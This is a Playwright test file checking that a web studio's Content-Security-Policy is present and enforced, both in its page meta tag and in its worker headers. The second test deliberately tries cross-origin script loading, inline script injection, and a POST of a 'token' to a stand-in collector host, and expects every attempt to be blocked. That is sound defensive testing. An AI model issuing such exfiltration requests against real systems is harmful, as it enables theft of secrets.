import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { watchConsole } from './console.ts';
import { FIXTURE_MODEL } from './hub.ts';
import { expect, test } from './studio.ts';

/**
 * The studio's Content-Security-Policy (app/studio/csp.ts) in the production build: the page carries it
 * in a <meta>, `vite preview` sends it as a header (so the engine worker is governed too), the studio
 * works under it (a Hub download, ONNX Runtime's WebAssembly in "Verify engine"), and a script or a
 * connection from anywhere else is refused.
 */
const DIST = process.env.COCKTAIL_DIST ?? 'dist';

function engineWorkerPath(): string {
  const file = readdirSync(join(DIST, 'assets')).find((name) => /^engine\.worker-[\w-]+\.js$/.test(name));
  if (!file) throw new Error(`No engine worker in ${DIST}/assets; build the studio first (COCKTAIL_DIST=${DIST} npx vite build)`);
  return `/assets/${file}`;
}

/** Records every CSP violation the page reports, from before its first script. */
async function watchViolations(page: Page): Promise<() => Promise<{ directive: string; blocked: string }[]>> {
  await page.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { cspViolations: typeof seen }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  return () => page.evaluate(() => (window as unknown as { cspViolations: { directive: string; blocked: string }[] }).cspViolations);
}

test.describe('Content-Security-Policy', () => {
  test('the built studio carries its policy and works under it: a Hub download and ONNX Runtime’s WebAssembly', async ({ page, hub }) => {
    const errors = watchConsole(page);
    const violations = await watchViolations(page);
    await page.goto('/#/model');
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval';");
    expect(meta).toContain("connect-src 'self' https://huggingface.co");
    // The worker's own response carries the policy, with what a <meta> cannot say.
    const workerPolicy = (await page.request.get(engineWorkerPath())).headers()['content-security-policy'];
    expect(workerPolicy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(workerPolicy).toContain("frame-ancestors 'none'");

    await page.getByLabel('Hub model id').fill(FIXTURE_MODEL);
    await page.getByLabel('Revision').fill('main');
    await page.getByRole('button', { name: 'Load', exact: true }).click();
    await expect(page.getByTestId('model-card')).toBeVisible({ timeout: 120_000 });
    expect(hub.requests.some((request) => request.includes('model.safetensors'))).toBe(true);
    await page.getByRole('button', { name: 'Verify engine' }).click();
    await expect(page.getByTestId('verify-result').getByRole('status')).toContainText(/^Pass: the engines agree/, { timeout: 180_000 });
    expect(await violations()).toEqual([]);
    expect(errors).toEqual([]);
  });

  test('a script from another origin and a connection to a host that is not a Hub endpoint are refused', async ({ page, hub }) => {
    const violations = await watchViolations(page);
    await page.goto('/');
    const outcome = await page.evaluate(async (hubEndpoint) => {
      // The fixture Hub is another origin (another port): connections to it are allowed, scripts from it are not.
      const script = await new Promise<string>((resolve) => {
        const element = document.createElement('script');
        element.src = `${hubEndpoint}/fixtures/aidreams260K/resolve/main/config.json`;
        element.onload = () => resolve('loaded');
        element.onerror = () => resolve('refused');
        document.head.append(element);
      });
      const elsewhere = await fetch('https://collector.example.org/upload', { method: 'POST', body: 'token' }).then(
        () => 'connected',
        (error: Error) => `refused: ${error.name}`,
      );
      const hubConfig = await fetch(`${hubEndpoint}/fixtures/aidreams260K/resolve/main/config.json`).then((response) => response.status);
      const inlineScript = (() => {
        const element = document.createElement('script');
        element.textContent = 'window.inlineRan = true';
        document.head.append(element);
        return (window as unknown as { inlineRan?: boolean }).inlineRan === true ? 'ran' : 'refused';
      })();
      return { script, elsewhere, hubConfig, inlineScript };
    }, hub.endpoint);
    expect(outcome).toEqual({ script: 'refused', elsewhere: 'refused: TypeError', hubConfig: 200, inlineScript: 'refused' });
    // Each refusal was the policy's, by the directive that governs it.
    await expect.poll(async () => [...new Set((await violations()).map((violation) => violation.directive))].sort()).toEqual(['connect-src', 'script-src-elem']);
    const blocked = (await violations()).map((violation) => violation.blocked);
    expect(blocked).toContain(`${hub.endpoint}/fixtures/aidreams260K/resolve/main/config.json`);
    expect(blocked).toContain('https://collector.example.org/upload');
  });
});
